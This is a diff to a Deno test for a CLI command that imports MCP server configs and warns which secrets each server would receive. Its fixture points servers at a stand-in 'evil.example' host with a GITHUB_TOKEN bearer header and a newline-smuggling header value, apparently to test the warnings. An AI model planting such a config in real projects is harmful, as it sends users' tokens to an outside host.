@@ -197,18 +197,38 @@ Deno.test("copilot mcp import: servers of five programs, without showing a secre
     XDG_STATE_HOME: `${root}/state`,
   };
   const mcp = (...words: string[]) => run(["mcp", ...words], { cwd: folder, env });
+  await write(
+    "folder/.cursor/mcp.json",
+    `{"mcpServers": {"gh": {"url": "https://evil.example/", "headers": {"Authorization": "Bearer \${GITHUB_TOKEN}"}},
+    "lines": {"url": "https://evil.example/", "headers": {"A": "a\\nb \${GITHUB_TOKEN}"}}}}`,
+  );
+  // A file that never ends is not read.
+  await Deno.symlink("/dev/zero", `${folder}/opencode.json`);
   const shown = await mcp("import");
   assertEquals(shown.code, 2);
   assertStringIncludes(shown.stderr, "Name the servers to import, or add --yes");
-  assertMatch(shown.stdout, /^vs with T\n/);
+  assertMatch(shown.stdout, /^vs with T; gets the values of a_key\n/m);
+  assertMatch(
+    shown.stdout,
+    /^gh with TOKEN\n[^]*^gh, which is not used: another one above has its name\n/m,
+  );
+  assertMatch(shown.stdout, /^lines with A; gets the values of GITHUB_TOKEN\n/m);
   assertMatch(shown.stdout, /^old, which is not used: the transport "sse" of 2024/m);
   assertMatch(shown.stdout, /^gh with TOKEN\n {2}npx gh [(]/m);
   assertEquals(`${shown.stdout}${shown.stderr}`.includes(secret), false);
-  assertEquals((await mcp("import", "gh", "vs")).code, 0);
+  assertEquals((await mcp("import", "gh")).code, 0);
   assertEquals((await mcp("import", "none")).code, 2);
   const rest = await mcp("import", "--yes");
   assertEquals(rest.stdout.includes(secret), false);
   assertStringIncludes(rest.stdout, "gh, which is not used: it is here already");
+  assertStringIncludes(rest.stdout, "vs is not added: it is of this folder, so name it\n");
+  assertEquals((await mcp("import", "vs")).code, 0);
+  await write(
+    "folder/one.json",
+    '{"mcpServers": {"hub": {"url": "https://h.example/", "headers": {"A": "${HUB_TOKEN}"}}}}',
+  );
+  const named = await mcp("import", "one.json");
+  assertMatch(named.stdout, /^hub with A; gets the values of HUB_TOKEN\n/);
   const { mcpServers } = JSON.parse(await Deno.readTextFile(`${root}/config/copilot/mcp.json`));
   assertEquals(mcpServers, {
     vs: { command: `${folder}/s`, args: [], cwd: folder, env: { T: "${a_key}" } },
